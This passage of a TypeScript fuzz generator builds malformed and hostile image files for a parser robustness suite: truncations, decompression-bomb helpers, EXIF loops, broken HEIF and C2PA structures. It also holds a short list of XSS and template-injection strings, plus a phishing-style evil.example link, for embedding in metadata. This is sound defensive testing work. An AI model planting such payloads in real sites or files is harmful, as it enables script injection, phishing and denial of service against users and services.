/**
 * Deterministic generator of malformed and hostile image files for the robustness suite.
 *
 * Cases come from two sources, both reproducible from their index alone:
 * - structured cases (indices 0 … structuredCount-1): every truncation at a JPEG marker, PNG
 *   chunk, ISO-BMFF box and RIFF chunk boundary of the seeds; decompression bombs; absurd
 *   declared sizes; EXIF IFD loops and out-of-range offsets; huge and pathological XMP and ICC;
 *   C2PA/JUMBF garbage; polyglots; SVG and HTML served as images; HEIC/AVIF box abuse;
 *   animated GIF/WebP; metadata strings carrying HTML/JS;
 * - random cases (every later index): a mutation operator and a seed picked by a PRNG seeded
 *   with (run seed, index).
 * Every case has a unique name `category/detail`; `caseAt(i)` rebuilds case i on its own, so a
 * failure seen in a run of 10,000 files is reproduced by running that one index.
 *
 * Seeds are the small valid files in ./seeds (see README.md) plus synthetic GIF, WebP,
 * HEIC, AVIF, TIFF and BMP files built here.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { deflateSync, gzipSync } from 'node:zlib';

export type SeedKind = 'jpeg' | 'png' | 'webp' | 'gif' | 'heic' | 'avif' | 'tiff' | 'bmp';

export interface Seed {
  name: string;
  kind: SeedKind;
  bytes: Uint8Array;
}

export interface FuzzCase {
  index: number;
  name: string;
  category: string;
  bytes: Uint8Array;
}

interface CaseSpec {
  name: string;
  build: () => Uint8Array;
  /** Over 1 MB or slow to build: the fast spec subset leaves these to the full run. */
  heavy?: boolean;
}

export const SEED_DIR = join(dirname(fileURLToPath(import.meta.url)), 'seeds');

/* ------------------------------------------------------------------ bytes */

const utf8 = new TextEncoder();
type Part = Uint8Array | string | readonly number[];

export function concat(...parts: Part[]): Uint8Array {
  const arrays = parts.map((p) => (typeof p === 'string' ? utf8.encode(p) : p instanceof Uint8Array ? p : Uint8Array.from(p)));
  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
  let o = 0;
  for (const a of arrays) {
    out.set(a, o);
    o += a.length;
  }
  return out;
}

const latin1 = (s: string) => new Uint8Array(Buffer.from(s, 'latin1'));
export const be16 = (n: number) => [(n >>> 8) & 0xff, n & 0xff];
export const be32 = (n: number) => [(n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff];
export const le16 = (n: number) => [n & 0xff, (n >>> 8) & 0xff];
export const le32 = (n: number) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
const be64 = (n: bigint) => [...be32(Number((n >> 32n) & 0xffffffffn)), ...be32(Number(n & 0xffffffffn))];
const u16be = (b: Uint8Array, o: number) => (b[o] << 8) | b[o + 1];
const u32be = (b: Uint8Array, o: number) => ((b[o] << 24) >>> 0) + (b[o + 1] << 16) + (b[o + 2] << 8) + b[o + 3];
const u32le = (b: Uint8Array, o: number) => (b[o] | (b[o + 1] << 8) | (b[o + 2] << 16) | (b[o + 3] << 24)) >>> 0;
const ascii4 = (b: Uint8Array, o: number) => String.fromCharCode(b[o], b[o + 1], b[o + 2], b[o + 3]);

function patch(b: Uint8Array, offset: number, values: readonly number[]): Uint8Array {
  const out = b.slice();
  values.forEach((v, i) => {
    if (offset + i < out.length) out[offset + i] = v;
  });
  return out;
}

const fromBase64 = (s: string) => new Uint8Array(Buffer.from(s, 'base64'));

const memo = new Map<string, Uint8Array>();
function memoised(key: string, make: () => Uint8Array): Uint8Array {
  let v = memo.get(key);
  if (!v) {
    v = make();
    memo.set(key, v);
  }
  return v;
}

/** A zlib stream that inflates to `n` bytes of `fill` (built once per process). */
function deflatedRun(n: number, fill = 0): Uint8Array {
  return memoised(`deflate:${n}:${fill}`, () => new Uint8Array(deflateSync(Buffer.alloc(n, fill), { level: 9 })));
}

/* ------------------------------------------------------------------ PRNG */

export interface Rng {
  next(): number;
  int(n: number): number;
  range(lo: number, hi: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
  bytes(n: number): Uint8Array;
}

/** mulberry32 */
export function rng(seed: number): Rng {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  return {
    next,
    int,
    range: (lo, hi) => lo + int(hi - lo + 1),
    pick: (items) => items[int(items.length)],
    chance: (p) => next() < p,
    bytes: (n) => Uint8Array.from({ length: n }, () => int(256)),
  };
}

/** A well-mixed 32-bit seed for case `index` of run `seed`. */
export function caseSeed(seed: number, index: number): number {
  let h = (Math.imul(seed ^ 0x9e3779b9, 0x85ebca6b) ^ Math.imul(index + 0x632be5ab, 0xc2b2ae35)) >>> 0;
  h = Math.imul(h ^ (h >>> 16), 0x7feb352d);
  h = Math.imul(h ^ (h >>> 15), 0x846ca68b);
  return (h ^ (h >>> 16)) >>> 0;
}

/* ------------------------------------------------------------------ JPEG */

export interface JpegSeg {
  marker: number;
  offset: number;
  end: number;
}

/** The marker segments of a JPEG in file order (entropy-coded data is skipped, EOI included). */
export function jpegSegments(b: Uint8Array): JpegSeg[] {
  const out: JpegSeg[] = [{ marker: 0xd8, offset: 0, end: 2 }];
  let o = 2;
  while (o + 1 < b.length && out.length < 10_000) {
    if (b[o] !== 0xff) break;
    const marker = b[o + 1];
    if (marker === 0xff) {
      o++;
      continue;
    }
    if (marker === 0xd9) {
      out.push({ marker, offset: o, end: o + 2 });
      break;
    }
    if (marker === 0x01 || (marker >= 0xd0 && marker <= 0xd7)) {
      out.push({ marker, offset: o, end: o + 2 });
      o += 2;
      continue;
    }
    if (o + 3 >= b.length) break;
    const end = o + 2 + u16be(b, o + 2);
    out.push({ marker, offset: o, end: Math.min(end, b.length) });
    if (marker === 0xda) {
      let i = end;
      for (;;) {
        i = b.indexOf(0xff, i);
        if (i < 0 || i + 1 >= b.length) return out;
        const n = b[i + 1];
        if (n === 0 || n === 0xff || (n >= 0xd0 && n <= 0xd7)) i += n === 0xff ? 1 : 2;
        else break;
      }
      o = i;
    } else o = end;
  }
  return out;
}

export function jpegSegment(marker: number, payload: Part): Uint8Array {
  const body = concat(payload);
  if (body.length > 65533) throw new Error(`JPEG segment payload of ${body.length} bytes`);
  return concat([0xff, marker, ...be16(body.length + 2)], body);
}

/** The JPEG with `segments` inserted right after SOI (before APP0, as EXIF writers do). */
export function jpegInsert(jpeg: Uint8Array, ...segments: Uint8Array[]): Uint8Array {
  return concat(jpeg.subarray(0, 2), ...segments, jpeg.subarray(2));
}

function jpegWithout(jpeg: Uint8Array, drop: (s: JpegSeg) => boolean): Uint8Array {
  const segs = jpegSegments(jpeg);
  const parts: Uint8Array[] = [];
  let o = 0;
  for (const s of segs) {
    if (!drop(s)) continue;
    parts.push(jpeg.subarray(o, s.offset));
    o = s.end;
  }
  parts.push(jpeg.subarray(o));
  return concat(...parts);
}

function setJpegSize(jpeg: Uint8Array, width: number, height: number): Uint8Array {
  const sof = jpegSegments(jpeg).find((s) => s.marker >= 0xc0 && s.marker <= 0xc3);
  if (!sof) return jpeg;
  return patch(jpeg, sof.offset + 5, [...be16(height), ...be16(width)]);
}

const exifApp1 = (tiff: Uint8Array) => jpegSegment(0xe1, concat('Exif\0\0', tiff));
const XMP_NS = 'http://ns.adobe.com/xap/1.0/\0';
const xmpApp1 = (packet: string) => jpegSegment(0xe1, concat(XMP_NS, packet));

/* ------------------------------------------------------------------ PNG */

const CRC_TABLE = Uint32Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

export function crc32(...parts: Uint8Array[]): number {
  let c = 0xffffffff;
  for (const p of parts) for (let i = 0; i < p.length; i++) c = CRC_TABLE[(c ^ p[i]) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

export function pngChunk(type: string, data: Part = []): Uint8Array {
  const t = latin1(type);
  const d = concat(data);
  return concat(be32(d.length), t, d, be32(crc32(t, d)));
}

export interface PngChunkPos {
  type: string;
  offset: number;
  dataStart: number;
  dataEnd: number;
  end: number;
}

export function pngChunks(b: Uint8Array): PngChunkPos[] {
  const out: PngChunkPos[] = [];
  let o = 8;
  while (o + 12 <= b.length && out.length < 100_000) {
    const len = u32be(b, o);
    const end = o + 12 + len;
    out.push({ type: ascii4(b, o + 4), offset: o, dataStart: o + 8, dataEnd: Math.min(o + 8 + len, b.length), end: Math.min(end, b.length) });
    if (end > b.length) break;
    o = end;
  }
  return out;
}

export const PNG_SIGNATURE = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** The PNG with `chunks` inserted before the first chunk of type `before` (IDAT by default). */
export function pngInsert(png: Uint8Array, chunks: Uint8Array[], before = 'IDAT'): Uint8Array {
  const at = pngChunks(png).find((c) => c.type === before)?.offset ?? png.length;
  return concat(png.subarray(0, at), ...chunks, png.subarray(at));
}

function ihdr(width: number, height: number, bitDepth = 8, colorType = 2, interlace = 0): Uint8Array {
  return pngChunk('IHDR', [...be32(width), ...be32(height), bitDepth, colorType, 0, 0, interlace]);
}

function makePng(width: number, height: number, idat: Uint8Array, opts: { bitDepth?: number; colorType?: number; extra?: Uint8Array[] } = {}): Uint8Array {
  return concat(PNG_SIGNATURE, ihdr(width, height, opts.bitDepth ?? 8, opts.colorType ?? 2), ...(opts.extra ?? []), pngChunk('IDAT', idat), pngChunk('IEND'));
}

function setPngSize(png: Uint8Array, width: number, height: number): Uint8Array {
  const out = png.slice();
  out.set([...be32(width), ...be32(height)], 16);
  out.set(be32(crc32(out.subarray(12, 29))), 29);
  return out;
}

const pngText = (keyword: string, text: string) => pngChunk('tEXt', concat(latin1(keyword), [0], latin1(text)));
const pngZtxt = (keyword: string, data: Uint8Array) => pngChunk('zTXt', concat(latin1(keyword), [0, 0], data));
const pngItxt = (keyword: string, text: Part, compressed = false) =>
  pngChunk('iTXt', concat(latin1(keyword), [0, compressed ? 1 : 0, 0], 'en', [0], [0], concat(text)));

/* ------------------------------------------------------------------ TIFF / EXIF */

type IfdRef = { ifd: number } | { offset: number };

export interface TiffEntry {
  tag: number;
  type: number;
  /** Declared count; derived from the value when omitted (a lie when given). */
  count?: number;
  value: Uint8Array | IfdRef;
}

export interface TiffIfd {
  entries: TiffEntry[];
  next?: IfdRef;
}

const TYPE_SIZE: Record<number, number> = { 1: 1, 2: 1, 3: 2, 4: 4, 5: 8, 7: 1, 9: 4, 10: 8, 13: 4 };

/**
 * A little-endian TIFF stream: the IFDs one after another from offset 8, then their
 * out-of-line values. Pointers ({ifd: k}) resolve to IFD k, raw offsets are written as given,
 * so loops and offsets past the end are easy to state.
 */
export function buildTiff(ifds: TiffIfd[], first: IfdRef = { ifd: 0 }, tail: Uint8Array = new Uint8Array(0)): Uint8Array {
  const ifdOffsets: number[] = [];
  let o = 8;
  for (const ifd of ifds) {
    ifdOffsets.push(o);
    o += 2 + 12 * ifd.entries.length + 4;
  }
  const resolve = (r: IfdRef) => ('ifd' in r ? (ifdOffsets[r.ifd] ?? 0) : r.offset);
  const data: number[] = [];
  const dataStart = o;
  const body: number[] = [0x49, 0x49, 0x2a, 0x00, ...le32(resolve(first))];
  for (const ifd of ifds) {
    body.push(...le16(ifd.entries.length));
    for (const e of ifd.entries) {
      body.push(...le16(e.tag), ...le16(e.type));
      if (!(e.value instanceof Uint8Array)) {
        body.push(...le32(e.count ?? 1), ...le32(resolve(e.value)));
        continue;
      }
      const v = e.value;
      body.push(...le32(e.count ?? Math.max(1, Math.floor(v.length / (TYPE_SIZE[e.type] ?? 1)))));
      if (v.length <= 4) body.push(...v, ...new Array(4 - v.length).fill(0));
      else {
        if (data.length & 1) data.push(0);
        body.push(...le32(dataStart + data.length));
        for (let i = 0; i < v.length; i++) data.push(v[i]);
      }
    }
    body.push(...le32(ifd.next ? resolve(ifd.next) : 0));
  }
  return concat(body, data, tail);
}

export const TAG = {
  ImageWidth: 0x0100,
  ImageLength: 0x0101,
  BitsPerSample: 0x0102,
  ImageDescription: 0x010e,
  Make: 0x010f,
  Model: 0x0110,
  StripOffsets: 0x0111,
  Software: 0x0131,
  DateTime: 0x0132,
  Artist: 0x013b,
  ThumbnailOffset: 0x0201,
  ThumbnailLength: 0x0202,
  XMP: 0x02bc,
  IPTC: 0x83bb,
  ExifIFD: 0x8769,
  ICC: 0x8773,
  GPSIFD: 0x8825,
  DateTimeOriginal: 0x9003,
  CreateDate: 0x9004,
  MakerNote: 0x927c,
  UserComment: 0x9286,
  InteropIFD: 0xa005,
  LensModel: 0xa434,
  GPSLatitudeRef: 0x0001,
  GPSLatitude: 0x0002,
} as const;

const asciiEntry = (tag: number, text: string): TiffEntry => ({ tag, type: 2, value: concat(text, [0]) });
const longEntry = (tag: number, ...values: number[]): TiffEntry => ({ tag, type: 4, value: Uint8Array.from(values.flatMap(le32)) });
const ptrEntry = (tag: number, to: IfdRef): TiffEntry => ({ tag, type: 4, value: to });
const undefinedEntry = (tag: number, bytes: Part): TiffEntry => ({ tag, type: 7, value: concat(bytes) });
const rationalEntry = (tag: number, ...pairs: [number, number][]): TiffEntry => ({ tag, type: 5, value: Uint8Array.from(pairs.flatMap(([n, d]) => [...le32(n), ...le32(d)])) });

function utf16be(text: string): Uint8Array {
  const out = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) out.set(be16(text.charCodeAt(i)), i * 2);
  return out;
}

export const userCommentAscii = (text: string) => undefinedEntry(TAG.UserComment, concat('ASCII\0\0\0', text));
export const userCommentUnicode = (text: string) => undefinedEntry(TAG.UserComment, concat('UNICODE\0', utf16be(text)));

/** IFD0 with camera fields, an EXIF IFD with capture time and a GPS IFD: a plausible phone photo. */
function cameraTiff(extra0: TiffEntry[] = [], extraExif: TiffEntry[] = []): Uint8Array {
  return buildTiff([
    { entries: [asciiEntry(TAG.Make, 'Apple'), asciiEntry(TAG.Model, 'iPhone 13'), asciiEntry(TAG.Software, '17.1.2'), ptrEntry(TAG.ExifIFD, { ifd: 1 }), ptrEntry(TAG.GPSIFD, { ifd: 2 }), ...extra0] },
    { entries: [asciiEntry(TAG.DateTimeOriginal, '2025:11:20 10:15:00'), asciiEntry(TAG.CreateDate, '2025:11:20 10:15:00'), asciiEntry(TAG.LensModel, 'iPhone 13 back camera'), ...extraExif] },
    { entries: [asciiEntry(TAG.GPSLatitudeRef, 'N'), rationalEntry(TAG.GPSLatitude, [52, 1], [31, 1], [0, 1])] },
  ]);
}

/** A tiny uncompressed 1×1 grey strip so a bare TIFF is an image, not only a header. */
function tiffImage(ifd0: TiffEntry[], more: TiffIfd[] = []): Uint8Array {
  const base: TiffEntry[] = [
    { tag: TAG.ImageWidth, type: 3, value: Uint8Array.from(le16(1)) },
    { tag: TAG.ImageLength, type: 3, value: Uint8Array.from(le16(1)) },
    { tag: TAG.BitsPerSample, type: 3, value: Uint8Array.from(le16(8)) },
    longEntry(TAG.StripOffsets, 7),
  ];
  return buildTiff([{ entries: [...base, ...ifd0], next: more.length ? { ifd: 1 } : undefined }, ...more]);
}

/* ------------------------------------------------------------------ ISO-BMFF (HEIC / AVIF) */

export function box(type: string, ...parts: Part[]): Uint8Array {
  const body = concat(...parts);
  return concat(be32(body.length + 8), latin1(type), body);
}

const fullBox = (type: string, version: number, flags: number, ...parts: Part[]) => box(type, [version, (flags >> 16) & 0xff, (flags >> 8) & 0xff, flags & 0xff], ...parts);
/**
 * `depth` boxes of `type` nested in one another, each holding `prefix` before the next level
 * and `inner` at the bottom (built in one pass: deep nesting by repeated concat is quadratic).
 */
function nestedBoxes(type: string, depth: number, prefix: Uint8Array, inner: Uint8Array): Uint8Array {
  const level = 8 + prefix.length;
  const out = new Uint8Array(depth * level + inner.length);
  const t = latin1(type);
  for (let i = 0; i < depth; i++) {
    const o = i * level;
    out.set(be32(out.length - o), o);
    out.set(t, o + 4);
    out.set(prefix, o + 8);
  }
  out.set(inner, depth * level);
  return out;
}

/** A box header that states `size` whatever the body really is. */
const rawBox = (size: number, type: string, ...parts: Part[]) => concat(be32(size), latin1(type), ...parts);

export interface BoxPos {
  type: string;
  offset: number;
  end: number;
  depth: number;
}

const CONTAINERS = new Set(['meta', 'iprp', 'ipco', 'iinf', 'dinf', 'moov', 'trak']);

/** Every box (recursing into the usual containers), in file order. */
export function bmffBoxes(b: Uint8Array, from = 0, to = b.length, depth = 0, out: BoxPos[] = []): BoxPos[] {
  let o = from;
  while (o + 8 <= to && out.length < 10_000 && depth < 8) {
    let size = u32be(b, o);
    let header = 8;
    if (size === 1 && o + 16 <= to) {
      size = u32be(b, o + 8) * 2 ** 32 + u32be(b, o + 12);
      header = 16;
    } else if (size === 0) size = to - o;
    if (size < header || o + size > to) break;
    const type = ascii4(b, o + 4);
    out.push({ type, offset: o, end: o + size, depth });
    if (CONTAINERS.has(type)) bmffBoxes(b, o + header + (type === 'meta' ? 4 : type === 'iinf' ? 6 : 0), o + size, depth + 1, out);
    o += size;
  }
  return out;
}

interface HeifParts {
  brand: 'heic' | 'avif';
  width?: number;
  height?: number;
  tiff?: Uint8Array;
  /** Replace the property container (ipco) body. */
  ipco?: Uint8Array;
  ipma?: Uint8Array;
  iloc?: (exifOffset: number, exifLength: number, imageOffset: number) => Uint8Array;
  iinf?: Uint8Array;
  extraMeta?: Uint8Array[];
  trailer?: Uint8Array;
}

/** A HEIF/AVIF file: ftyp, meta (hdlr, pitm, iinf, iloc, iprp) and mdat with a fake image item and an Exif item. */
export function heif(p: HeifParts): Uint8Array {
  const coded = p.brand === 'avif' ? 'av01' : 'hvc1';
  const ftyp = box('ftyp', p.brand === 'avif' ? 'avif' : 'heic', be32(0), 'mif1', p.brand === 'avif' ? 'avifmiaf' : 'heic');
  const exif = p.tiff ? concat(be32(6), 'Exif\0\0', p.tiff) : new Uint8Array(0);
  const image = Uint8Array.from({ length: 32 }, (_, i) => (i * 37) & 0xff);
  const infe = (id: number, type: string) => fullBox('infe', 2, 0, be16(id), be16(0), type, [0]);
  const iinf = p.iinf ?? fullBox('iinf', 0, 0, be16(p.tiff ? 2 : 1), infe(1, coded), ...(p.tiff ? [infe(2, 'Exif')] : []));
  const defaultIloc = (exifOffset: number, exifLength: number, imageOffset: number) =>
    fullBox(
      'iloc', 0, 0, [0x44, 0x00], be16(p.tiff ? 2 : 1),
      be16(1), be16(0), be16(1), be32(imageOffset), be32(image.length),
      ...(p.tiff ? [concat(be16(2), be16(0), be16(1), be32(exifOffset), be32(exifLength))] : []),
    );
  const ipco = p.ipco ?? box('ipco', fullBox('ispe', 0, 0, be32(p.width ?? 64), be32(p.height ?? 48)));
  const ipma = p.ipma ?? fullBox('ipma', 0, 0, be32(1), be16(1), [1, 0x81]);
  const meta = (iloc: Uint8Array) =>
    fullBox('meta', 0, 0, fullBox('hdlr', 0, 0, be32(0), 'pict', be32(0), be32(0), be32(0), [0]), fullBox('pitm', 0, 0, be16(1)), iinf, iloc, box('iprp', ipco, ipma), ...(p.extraMeta ?? []));
  const ilocOf = p.iloc ?? defaultIloc;
  const probe = meta(ilocOf(0, 0, 0));
  const mdatStart = ftyp.length + probe.length + 8;
  const real = meta(ilocOf(mdatStart + image.length, exif.length, mdatStart));
  return concat(ftyp, real, box('mdat', image, exif), p.trailer ?? new Uint8Array(0));
}

/* ------------------------------------------------------------------ RIFF (WebP), GIF, BMP */

const WEBP_1X1_LOSSLESS = fromBase64('UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==');
const VP8L_CHUNK = WEBP_1X1_LOSSLESS.subarray(12);

function riffChunk(id: string, data: Part): Uint8Array {
  const d = concat(data);
  return concat(latin1(id), le32(d.length), d, d.length & 1 ? [0] : []);
}

export function webp(...chunks: Uint8Array[]): Uint8Array {
  const body = concat('WEBP', ...chunks);
  return concat('RIFF', le32(body.length), body);
}

const vp8x = (flags: number, width: number, height: number) => riffChunk('VP8X', [flags, 0, 0, 0, ...le32(width - 1).slice(0, 3), ...le32(height - 1).slice(0, 3)]);

export interface RiffPos {
  id: string;
  offset: number;
  end: number;
}

export function riffChunks(b: Uint8Array): RiffPos[] {
  const out: RiffPos[] = [];
  let o = 12;
  while (o + 8 <= b.length && out.length < 10_000) {
    const size = u32le(b, o + 4);
    const end = o + 8 + size + (size & 1);
    out.push({ id: ascii4(b, o), offset: o, end: Math.min(end, b.length) });
    if (end > b.length) break;
    o = end;
  }
  return out;
}

const GIF_1X1 = fromBase64('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7');

function gifFrames(frames: number, opts: { width?: number; height?: number; loop?: boolean; trailer?: boolean; extra?: Part } = {}): Uint8Array {
  const w = opts.width ?? 1;
  const h = opts.height ?? 1;
  const head = concat('GIF89a', le16(w), le16(h), [0x80, 0, 0], [0, 0, 0, 0xff, 0xff, 0xff]);
  const loop = opts.loop === false ? [] : [0x21, 0xff, 0x0b, ...latin1('NETSCAPE2.0'), 0x03, 0x01, 0x00, 0x00, 0x00];
  const frame = concat([0x21, 0xf9, 0x04, 0x04, 0x0a, 0x00, 0x00, 0x00], [0x2c, 0, 0, 0, 0, ...le16(w), ...le16(h), 0x00], [0x02, 0x02, 0x44, 0x01, 0x00]);
  const parts: Part[] = [head, loop, opts.extra ?? []];
  for (let i = 0; i < frames; i++) parts.push(frame);
  if (opts.trailer !== false) parts.push([0x3b]);
  return concat(...parts);
}

/** GIF data sub-blocks (≤255 bytes each, 0-terminated). */
function gifSubBlocks(data: Uint8Array): Uint8Array {
  const parts: Part[] = [];
  for (let o = 0; o < data.length; o += 255) {
    const n = Math.min(255, data.length - o);
    parts.push([n], data.subarray(o, o + n));
  }
  parts.push([0]);
  return concat(...parts);
}

function bmp(width: number, height: number, pixels: Uint8Array = new Uint8Array(16)): Uint8Array {
  const header = concat('BM', le32(54 + pixels.length), le32(0), le32(54), le32(40), le32(width), le32(height), le16(1), le16(24), le32(0), le32(pixels.length), le32(2835), le32(2835), le32(0), le32(0));
  return concat(header, pixels);
}

/* ------------------------------------------------------------------ XMP */

const XMP_NAMESPACES =
  'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:xmp="http://ns.adobe.com/xap/1.0/" ' +
  'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:Iptc4xmpExt="http://iptc.org/std/Iptc4xmpExt/2008-02-29/" ' +
  'xmlns:photoshop="http://ns.adobe.com/photoshop/1.0/" xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/"';

export function xmpPacket(attributes: string, body = ''): string {
  return (
    '<?xpacket begin="\uFEFF" id="W5M0MpCehiHzreSzNTczkc9d"?>' +
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
    `<rdf:Description rdf:about="" ${XMP_NAMESPACES} ${attributes}>${body}</rdf:Description>` +
    '</rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
  );
}

const escapeXml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** JPEG extended XMP (APP1 "http://ns.adobe.com/xmp/extension/"): `total` bytes split in segments at the given offsets. */
function extendedXmpSegments(data: Uint8Array, chunk: number, lie?: { total?: number; offsetShift?: number }): Uint8Array[] {
  const guid = '0123456789ABCDEF0123456789ABCDEF';
  const out: Uint8Array[] = [];
  for (let o = 0; o < data.length; o += chunk) {
    const piece = data.subarray(o, Math.min(o + chunk, data.length));
    out.push(jpegSegment(0xe1, concat('http://ns.adobe.com/xmp/extension/\0', guid, be32(lie?.total ?? data.length), be32(o + (lie?.offsetShift ?? 0)), piece)));
  }
  return out;
}

/* ------------------------------------------------------------------ C2PA / JUMBF */

const C2PA_UUID = [0x63, 0x32, 0x70, 0x61, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];
const CBOR_UUID = [0x63, 0x62, 0x6f, 0x72, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];
const JSON_UUID = [0x6a, 0x73, 0x6f, 0x6e, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];
const CLAIM_UUID = [0x63, 0x32, 0x63, 0x6c, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];
const MANIFEST_UUID = [0x63, 0x32, 0x6d, 0x61, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];
const ASSERTIONS_UUID = [0x63, 0x32, 0x61, 0x73, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];
const SIGNATURE_UUID = [0x63, 0x32, 0x63, 0x73, 0x00, 0x11, 0x00, 0x10, 0x80, 0x00, 0x00, 0xaa, 0x00, 0x38, 0x9b, 0x71];

const jumd = (uuid: readonly number[], label: string) => box('jumd', uuid, [0x03], label, [0]);
const jumb = (uuid: readonly number[], label: string, ...content: Part[]) => box('jumb', jumd(uuid, label), ...content);

/** A manifest store with the usual superbox layout whose claim, assertion and signature payloads are `cbor`. */
function manifestStore(claim: Uint8Array, assertion: Uint8Array = claim, signature: Uint8Array = claim): Uint8Array {
  return jumb(
    C2PA_UUID,
    'c2pa',
    jumb(
      MANIFEST_UUID,
      'urn:uuid:00000000-0000-4000-8000-000000000000',
      jumb(ASSERTIONS_UUID, 'c2pa.assertions', jumb(CBOR_UUID, 'c2pa.actions', box('cbor', assertion)), jumb(JSON_UUID, 'stds.schema-org.CreativeWork', box('json', '{"@context":"https://schema.org"}'))),
      jumb(CLAIM_UUID, 'c2pa.claim', box('cbor', claim)),
      jumb(SIGNATURE_UUID, 'c2pa.signature', box('cbor', signature)),
    ),
  );
}

/** JUMBF carried in JPEG APP11 segments (common identifier "JP", box instance 1, sequence numbers from 1). */
function app11(store: Uint8Array, opts: { chunk?: number; sequence?: (i: number) => number; instance?: number } = {}): Uint8Array[] {
  const chunk = opts.chunk ?? 65000;
  const header = store.subarray(0, 8);
  const out: Uint8Array[] = [];
  for (let o = 0, i = 0; o < store.length; i++) {
    const take = i === 0 ? Math.min(chunk, store.length) : Math.min(chunk - 8, store.length - o);
    const piece = store.subarray(o, o + take);
    const body = i === 0 ? piece : concat(header, piece);
    out.push(jpegSegment(0xeb, concat('JP', be16(opts.instance ?? 1), be32(opts.sequence ? opts.sequence(i) : i + 1), body)));
    o += take;
  }
  return out;
}

/** The APP11 segments of a JPEG (with their offsets) and the caBX chunk of a PNG. */
function manifestRegions(seed: Seed): { offset: number; end: number }[] {
  if (seed.kind === 'jpeg') return jpegSegments(seed.bytes).filter((s) => s.marker === 0xeb).map((s) => ({ offset: s.offset + 4, end: s.end }));
  if (seed.kind === 'png') return pngChunks(seed.bytes).filter((c) => c.type === 'caBX').map((c) => ({ offset: c.dataStart, end: c.dataEnd }));
  return [];
}

/* ------------------------------------------------------------------ hostile strings */

export const HTML_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(document.domain)>',
  "javascript:alert('x')",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '<a href="https://evil.example/refund">Click to approve refund</a>',
  '\u202eslidoc.exe\u0000<b>bold</b>',
];

const A1111 = (prompt: string) => `${prompt}\nNegative prompt: blurry\nSteps: 20, Sampler: Euler a, CFG scale: 7, Seed: 1, Size: 512x512, Model: sd15`;

const INTERESTING8 = [0x00, 0x01, 0x7f, 0x80, 0xfe, 0xff];
const INTERESTING16 = [0, 1, 2, 3, 4, 0x7fff, 0x8000, 0xfffe, 0xffff];
const INTERESTING32 = [0, 1, 2, 4, 8, 16, 0x7fffffff, 0x80000000, 0xfffffffe, 0xffffffff, 0x10000, 0xffff];

/* ------------------------------------------------------------------ seeds */

const KIND_BY_EXT: Record<string, SeedKind> = { jpg: 'jpeg', png: 'png', webp: 'webp', gif: 'gif', heic: 'heic', avif: 'avif', tif: 'tiff', bmp: 'bmp' };

function syntheticSeeds(): Seed[] {
  const xmp = xmpPacket('xmp:CreatorTool="Synthetic 1.0" Iptc4xmpExt:DigitalSourceType="http://cv.iptc.org/newscodes/digitalsourcetype/digitalCapture"');
  return [
    { name: 'synthetic-1x1.gif', kind: 'gif', bytes: GIF_1X1 },
    { name: 'synthetic-animated.gif', kind: 'gif', bytes: gifFrames(3) },
    { name: 'synthetic-lossless.webp', kind: 'webp', bytes: WEBP_1X1_LOSSLESS },
    { name: 'synthetic-exif-xmp.webp', kind: 'webp', bytes: webp(vp8x(0x2c, 1, 1), VP8L_CHUNK, riffChunk('EXIF', cameraTiff()), riffChunk('XMP ', xmp)) },
    { name: 'synthetic-animated.webp', kind: 'webp', bytes: webp(vp8x(0x02, 1, 1), riffChunk('ANIM', [0, 0, 0, 0, 0, 0]), ...[0, 1, 2].map(() => riffChunk('ANMF', concat(new Uint8Array(16), VP8L_CHUNK)))) },
    { name: 'synthetic-exif.heic', kind: 'heic', bytes: heif({ brand: 'heic', tiff: cameraTiff() }) },
    { name: 'synthetic-exif.avif', kind: 'avif', bytes: heif({ brand: 'avif', width: 1024, height: 1024, tiff: cameraTiff() }) },
